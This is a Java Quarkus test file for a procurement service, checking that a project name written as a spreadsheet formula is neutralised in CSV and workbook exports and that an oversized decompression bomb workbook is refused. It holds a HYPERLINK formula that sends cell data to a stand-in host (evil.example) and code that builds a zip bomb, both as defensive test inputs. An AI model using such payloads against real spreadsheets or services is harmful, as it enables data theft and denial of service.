package org.fiscaldisclosure.procurement;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.fiscaldisclosure.infra.EmbeddedInfraTestResource;
import org.fiscaldisclosure.platform.outbox.OutboxEvent;
import org.junit.jupiter.api.Test;

/**
 * A purchased-service project named like a spreadsheet formula reaches the findings CSV behind a single quote and the
 * workbook as quote-prefixed text (read back unchanged); a workbook that unpacks beyond the bound is refused before it
 * is parsed, and the service goes on answering.
 */
@QuarkusTest
@WithTestResource(value = EmbeddedInfraTestResource.class, initArgs = @ResourceArg(name = "database", value = "procurement"))
class SpreadsheetSafetyTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

    @Test
    void aFormulaInAProjectNameIsNeutralisedInTheFindingsCsvAndTheWorkbook() throws Exception {
        String unit = Parts.unit();
        ObjectNode part = Parts.clean();
        ObjectNode item = (ObjectNode) ((ArrayNode) Parts.purchased(part).get("items")).get(0);
        item.put("project", HYPERLINK).put("projectCode", "");
        Parts.put(unit, part).statusCode(201);

        String csv = given().accept("text/csv").get(Parts.url(unit) + "/findings").then().statusCode(200).extract().asString();
        assertTrue(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","), csv);
        assertFalse(csv.contains(",\"=") || csv.contains(",="), csv);

        byte[] workbook = Workbooks.export(unit);
        int quoted = 0;
        try (XSSFWorkbook wb = Workbooks.open(workbook)) {
            for (Sheet sheet : wb) {
                for (Row r : sheet) {
                    for (org.apache.poi.ss.usermodel.Cell c : r) {
                        if (c.getCellType() == CellType.STRING && c.getStringCellValue().equals(HYPERLINK)) {
                            assertTrue(c.getCellStyle().getQuotePrefixed(), sheet.getSheetName() + "!" + c.getAddress());
                            quoted++;
                        }
                        assertFalse(c.getCellType() == CellType.FORMULA);
                    }
                }
            }
        }
        assertTrue(quoted >= 1, "the project is in the workbook");
        // the workbook read back gives the same text: nothing was added to the value
        Workbooks.put(unit, workbook).statusCode(200);
        given().get(Parts.url(unit)).then().statusCode(200)
                .body("part.purchasedServices.items[0].project", equalTo(HYPERLINK));
    }

    @Test
    void aWorkbookUnpackingBeyondTheBoundIs413BeforeParsingAndTheServiceGoesOn() throws Exception {
        String unit = "110102-XLSXBOMB";
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
            zip.write("<Types/>".getBytes(StandardCharsets.UTF_8));
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            zip.write("<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>".getBytes(StandardCharsets.UTF_8));
            byte[] spaces = " ".repeat(1024).getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < 84 * 1024; i++) {
                zip.write(spaces);
            }
            zip.write("</t></is></c></row></sheetData></worksheet>".getBytes(StandardCharsets.UTF_8));
        }
        byte[] bomb = out.toByteArray();
        assertTrue(bomb.length < 1 << 20, "within the body limit: " + bomb.length);
        for (int i = 0; i < 4; i++) {
            Workbooks.put(unit, bomb).statusCode(413).contentType("application/problem+json")
                    .body("detail", startsWith("工作簿解压后超过"));
        }
        given().get(Parts.url(unit)).then().statusCode(404);
        assertEquals(0, OutboxEvent.count("subject", unit + "/2024"));
        Parts.put(Parts.unit(), Parts.clean()).statusCode(201);
    }
}
